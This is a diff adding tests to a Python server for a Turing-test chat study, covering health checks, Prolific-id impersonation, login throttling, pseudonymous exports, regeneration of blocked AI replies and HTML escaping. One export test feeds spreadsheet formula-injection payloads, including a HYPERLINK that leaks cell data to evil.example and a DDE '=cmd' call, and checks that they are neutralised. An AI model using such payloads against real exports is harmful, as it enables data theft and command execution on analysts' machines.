@@ -357,7 +357,8 @@ async def test_content_filter_binds_ai_witnesses_too(sqlite_url):
     with Store(sqlite_url) as store:
         (g,) = store.games()
         blocked = [e for e in store.events(g.id) if e.type == "refused" and e.payload.get("code") == "blocked"]
-        assert [(e.actor, e.payload["text"]) for e in blocked] == [("A", "fuck off")]
+        assert {(e.actor, e.payload["text"]) for e in blocked} == {("A", "fuck off")}
+        assert g.flags["ai_output_blocked"] == len(blocked)
 
 
 async def test_failed_start_is_reported_and_witness_moves_on_after_time_up(sqlite_url):
@@ -652,3 +653,256 @@ async def test_warm_up_failure_is_logged_not_raised(sqlite_url, caplog):
     assert "warming up witness Cold failed" in caplog.text and "unknown prompt" in caplog.text
     await hub.close()
     store.close()
+
+
+async def test_healthz_is_up_down_only_and_checks_the_database(sqlite_url, tmp_path):
+    """Public health tells nothing about who is waiting (a lone participant could learn that the
+    partner is an AI); counts are admin-only. A database that does not answer is a 503."""
+    from types import SimpleNamespace
+
+    from sqlalchemy import create_engine
+
+    app = create_app(study(), sqlite_url, rng_seed=1, human_timing=FAST,
+                     admin_password="pw")
+    with serve_in_thread(app) as base:
+        async with httpx.AsyncClient(base_url=base) as c:
+            empty = (await c.get("/healthz")).json()
+            p = await (await WsPlayer.create(base)).connect()
+            await p.phase("idle")
+            await p.send({"type": "join"})
+            await p.phase("waiting")
+            r = await c.get("/healthz")
+            assert r.status_code == 200 and r.json() == empty == {"ok": True, "database": "ok"}
+            assert "Waiting room (1)" in (await c.get("/admin", auth=("a", "pw"))).text
+            real = app.state.store
+            app.state.store = SimpleNamespace(engine=create_engine(f"sqlite:///{tmp_path}/no/such/dir/x.db"))
+            try:
+                r = await c.get("/healthz")
+                assert r.status_code == 503 and r.json() == {"ok": False, "database": "down"}
+            finally:
+                app.state.store = real
+            await p.close()
+
+
+async def test_a_prolific_id_never_hands_out_another_participants_token(sqlite_url):
+    """Someone who knows (or guesses) a Prolific id must not become that participant: a client
+    without the participant's cookie gets a new participant labelled as a duplicate Prolific id,
+    both before and after the owner consented; the owner's own browser still returns to them."""
+    from turinglab.server.hub import DUPLICATE_PID
+
+    with running(study(), sqlite_url) as base:
+        async with httpx.AsyncClient(base_url=base) as owner, httpx.AsyncClient(base_url=base) as other:
+            r = await owner.get("/?PROLIFIC_PID=pp9&STUDY_ID=st&SESSION_ID=s1")
+            pid = r.headers["location"].rsplit("/", 1)[-1]
+            r = await other.get("/?PROLIFIC_PID=pp9&STUDY_ID=st&SESSION_ID=s2")
+            assert r.status_code == 303
+            dup = r.headers["location"].rsplit("/", 1)[-1]
+            assert dup != pid and pid not in r.headers.get("set-cookie", "")
+            # the same way through the landing page's form (POST /start keeps the query)
+            r = await other.get("/p/" + dup)
+            tok = csrf_token(r.text)
+            async with httpx.AsyncClient(base_url=base) as third:
+                r = await third.post("/start?PROLIFIC_PID=pp9", data={"csrf": tok})
+                third_pid = r.headers["location"].rsplit("/", 1)[-1]
+                assert third_pid not in (pid, dup)
+            # each browser goes back to its own participant
+            assert (await owner.get("/?PROLIFIC_PID=pp9")).headers["location"].endswith(pid)
+            assert (await other.get("/?PROLIFIC_PID=pp9")).headers["location"].endswith(dup)
+            # a cookie of a participant with another Prolific id is no key either
+            r = await other.get("/?PROLIFIC_PID=other-id")
+            assert r.headers["location"].rsplit("/", 1)[-1] not in (pid, dup)
+    with Store(sqlite_url) as store:
+        assert store.get_participant(pid).label is None
+        assert store.get_participant(pid).prolific_session_id == "s1"
+        for d in (dup, third_pid):
+            info = store.get_participant(d)
+            assert info.label == DUPLICATE_PID and info.prolific_pid == "pp9"
+        assert store.find_participant(prolific_pid="pp9").id == pid
+
+
+async def test_admin_throttles_failed_logins_and_exports_are_safe_and_pseudonymous(sqlite_url):
+    """Failed logins are throttled per address; CSV cells a spreadsheet would execute are
+    neutralised; no export carries a participant id (the participants' login tokens)."""
+    with running(study(), sqlite_url, admin_password="s3cret") as base:
+        seats = await in_game(await players(base, 2))
+        pids = {p.pid for p in seats.values()}
+        await say(seats["interrogator"], '=HYPERLINK("http://evil.example/?"&A1,"x")')
+        await seats["A"].next("message")
+        await say(seats["A"], "@SUM(1+1)", conv=None)
+        await seats["interrogator"].next("message")
+        await say(seats["interrogator"], "-2+3")
+        await seats["A"].next("message")
+        await say(seats["A"], "+1 fine", conv=None)
+        await seats["interrogator"].next("message")
+        await seats["interrogator"].send({"type": "verdict", "choice": "human", "confidence": 80,
+                                          "reason": "=cmd|' /C calc'!A0"})
+        await seats["interrogator"].phase("reveal")
+        auth = ("admin", "s3cret")
+        async with httpx.AsyncClient(base_url=base) as c:
+            r = await c.get("/admin/export/messages.csv", auth=auth)
+            texts = list(pd.read_csv(io.StringIO(r.text))["text"])
+            assert texts == ['\'=HYPERLINK("http://evil.example/?"&A1,"x")', "'@SUM(1+1)", "'-2+3", "'+1 fine"]
+            r = await c.get("/admin/export/verdicts.csv", auth=auth)
+            v = pd.read_csv(io.StringIO(r.text))
+            assert list(v["reason"]) == ["'=cmd|' /C calc'!A0"] and list(v["confidence"]) == [80]
+            seen = {}
+            for t in ("games", "messages", "verdicts", "participants", "events"):
+                for fmt in ("csv", "parquet"):
+                    r = await c.get(f"/admin/export/{t}.{fmt}", auth=auth)
+                    assert r.status_code == 200
+                    assert not any(pid.encode() in r.content for pid in pids), (t, fmt)
+                    if fmt == "csv":
+                        seen[t] = pd.read_csv(io.StringIO(r.text))
+            # pseudonyms join across tables
+            assert set(seen["verdicts"]["interrogator_id"]) <= set(seen["participants"]["participant_id"])
+            assert seen["games"]["interrogator_id"][0] == seen["verdicts"]["interrogator_id"][0]
+            assert str(seen["games"]["interrogator_id"][0]).startswith("P")
+            # parquet keeps the text as it is (no spreadsheet runs it)
+            r = await c.get("/admin/export/messages.parquet", auth=auth)
+            assert pd.read_parquet(io.BytesIO(r.content))["text"][2] == "-2+3"
+            # throttle: 5 failures, then even the right password waits
+            for _ in range(5):
+                assert (await c.get("/admin", auth=("admin", "guess"))).status_code == 401
+            r = await c.get("/admin", auth=auth)
+            assert r.status_code == 429 and int(r.headers["Retry-After"]) > 0
+
+
+def test_login_throttle_window():
+    from turinglab.server.admin import LoginThrottle
+
+    now = [0.0]
+    t = LoginThrottle(limit=3, window_s=10, clock=lambda: now[0])
+    for _ in range(3):
+        assert t.blocked_for("1.2.3.4") == 0
+        t.failed("1.2.3.4")
+        now[0] += 1
+    assert t.blocked_for("1.2.3.4") == 7 and t.blocked_for("5.6.7.8") == 0
+    now[0] = 10.5
+    assert t.blocked_for("1.2.3.4") == 0
+
+
+class RudeOnce(Witness):
+    """A model whose first reply is blocked and whose second is fine."""
+
+    codename, kind = "RudeOnce", "local"
+
+    def __init__(self) -> None:
+        self.calls = 0
+
+    async def reply(self, history, ctx):
+        self.calls += 1
+        return Reply(text="fuck off" if self.calls == 1 else "haha hi, not much going on here")
+
+
+async def test_a_blocked_ai_reply_is_regenerated_within_its_delay_and_counted(sqlite_url):
+    """The model is asked again (within the designed delay) before any fallback answers; the
+    blocked outputs are recorded, counted on /admin and flagged on the game (for the report)."""
+    slow = Timing(base_s=1.0, s_per_char=0.002, gamma_shape=1.0, gamma_scale=0.01)
+    spec = WitnessSpec(codename="RudeOnce", kind="local", timing=slow)
+    made: list[RudeOnce] = []
+
+    def factory(spec, seed):
+        made.append(RudeOnce())
+        return made[-1]
+
+    with running(study(ratio=0.0, witnesses=(spec,)), sqlite_url, witness_factory=factory,
+                 admin_password="pw") as base:
+        (i,) = await players(base, 1)
+        await i.phase("game")
+        t0 = time.monotonic()
+        await say(i, "hello there")
+        reply = await i.next("message")
+        assert reply["text"] == "haha hi, not much going on here"  # the model's own second try, not ELIZA
+        assert time.monotonic() - t0 >= 0.9  # still the designed delay, not the first try's time
+        assert made[-1].calls == 2
+        async with httpx.AsyncClient(base_url=base) as c:
+            page = (await c.get("/admin", auth=("a", "pw"))).text
+            assert "Blocked AI outputs: 1" in page
+        await i.send({"type": "verdict", "choice": "ai", "confidence": 60})
+        await i.phase("reveal")
+    from turinglab.analysis.load import load
+
+    assert list(load(sqlite_url).judgements["ai_outputs_blocked"]) == [1]
+    with Store(sqlite_url) as store:
+        (g,) = store.games()
+        blocked = [e for e in store.events(g.id) if e.type == "refused" and e.payload.get("code") == "blocked"]
+        assert [(e.actor, e.payload["text"]) for e in blocked] == [("A", "fuck off")]
+        assert g.flags == {"ai_output_blocked": 1}
+
+
+async def test_three_player_lone_participant_sees_the_count_and_the_study_rule_ends_the_wait(sqlite_url):
+    """Alone in a three-player study: the state says how many are here of the two needed (live),
+    and after allocation.lone_wait_s the wait ends (phase `alone`, with the completion link)."""
+    s = Study(name="lone3", format="three-player", rules=RULES, witnesses=(ELIZA,),
+              allocation=Allocation(lone_wait_s=1.5), completion_url="https://example.org/done?cc=X")
+    with running(s, sqlite_url) as base:
+        (a,) = await players(base, 1)
+        st = await a.phase("waiting")
+        assert st["lone"]["here"] == 1 and st["lone"]["needed"] == 2
+        assert st["lone"]["ends_ms"] == st["waiting_since_ms"] + 1500
+        async with httpx.AsyncClient(base_url=base) as c:
+            page = (await c.get(f"/p/{a.pid}")).text
+            assert "within 1.5 seconds" in page and "Finish the study" in page
+        t0 = time.monotonic()
+        st = await a.phase("alone")
+        assert time.monotonic() - t0 >= 1.0 and st["lone"] is None
+        # waiting again starts a new wait; a second person makes the count live, then a game
+        await a.send({"type": "join"})
+        assert (await a.phase("waiting"))["lone"]["here"] == 1
+        b = await (await WsPlayer.create(base)).connect()
+        await b.phase("idle")
+        await b.send({"type": "join"})
+        await in_game([a, b])
+        counts = [f["lone"]["here"] for f in a.frames if f["type"] == "state" and f.get("lone")]
+        assert counts[-1] == 2 or 2 not in counts  # a count of 2 is only ever the last before the game
+
+
+async def test_three_player_lone_then_wait_keeps_waiting(sqlite_url):
+    s = Study(name="lone3w", format="three-player", rules=RULES, witnesses=(ELIZA,),
+              allocation=Allocation(lone_wait_s=0.3, lone_then="wait"))
+    with running(s, sqlite_url) as base:
+        (a,) = await players(base, 1)
+        st = await a.phase("waiting")
+        assert st["lone"] == {"here": 1, "needed": 2, "ends_ms": None}
+        await asyncio.sleep(0.8)
+        assert not [f for f in a.frames if f["type"] == "state" and f["phase"] == "alone"]
+        async with httpx.AsyncClient(base_url=base) as c:
+            assert "keep waiting as long as you like" in (await c.get(f"/p/{a.pid}")).text
+
+
+async def test_participant_pages_display_name_decline_favicon_and_admin_transcript(sqlite_url):
+    s = study(display_name="Chat & decide", no_consent_url="https://example.org/nc?cc=NOCONSENT")
+    with running(s, sqlite_url, admin_password="pw") as base:
+        async with httpx.AsyncClient(base_url=base) as c:
+            r = await c.post("/start")
+            pid = r.headers["location"].rsplit("/", 1)[-1]
+            page = (await c.get(f"/p/{pid}")).text
+            assert '<span class="brand">Chat &amp; decide</span>' in page and s.name not in page
+            assert "I do not agree" in page and 'rel="icon"' in page
+            r = await c.post(f"/p/{pid}/decline", data={"csrf": csrf_token(page)})
+            assert r.status_code == 303 and r.headers["location"] == "https://example.org/nc?cc=NOCONSENT"
+            assert (await c.post(f"/p/{pid}/decline", data={"csrf": "bad"})).status_code == 403
+            r = await c.get("/favicon.ico", follow_redirects=True)
+            assert r.status_code == 200 and r.headers["content-type"].startswith("image/svg")
+        seats = await in_game(await players(base, 2))
+        await say(seats["interrogator"], "<b>hello</b> & bye")
+        await seats["A"].next("message")
+        async with httpx.AsyncClient(base_url=base) as c:
+            admin = (await c.get("/admin", auth=("a", "pw"))).text
+            assert 'id="live"' in admin and "/static/admin.js" in admin
+            gid = next(f["game"]["game_id"] for f in seats["interrogator"].frames if f.get("game"))
+            assert f'href="/admin/game/{gid}"' in admin
+            t = await c.get(f"/admin/game/{gid}", auth=("a", "pw"))
+            assert t.status_code == 200 and "&lt;b&gt;hello&lt;/b&gt; &amp; bye" in t.text and "<b>hello" not in t.text
+            assert "In progress" in t.text
+            assert (await c.get(f"/admin/game/{gid}")).status_code == 401
+            assert (await c.get("/admin/game/nope", auth=("a", "pw"))).status_code == 404
+            assert (await c.get("/static/admin.js")).status_code == 200
+    # without a no-consent link: a page that says nothing was recorded
+    with running(study(version=2), sqlite_url) as base:
+        async with httpx.AsyncClient(base_url=base) as c:
+            pid = (await c.post("/start")).headers["location"].rsplit("/", 1)[-1]
+            page = (await c.get(f"/p/{pid}")).text
+            assert "Human or AI? A chat study" in page
+            r = await c.post(f"/p/{pid}/decline", data={"csrf": csrf_token(page)})
+            assert r.status_code == 200 and "no chat or answers of yours were recorded" in r.text
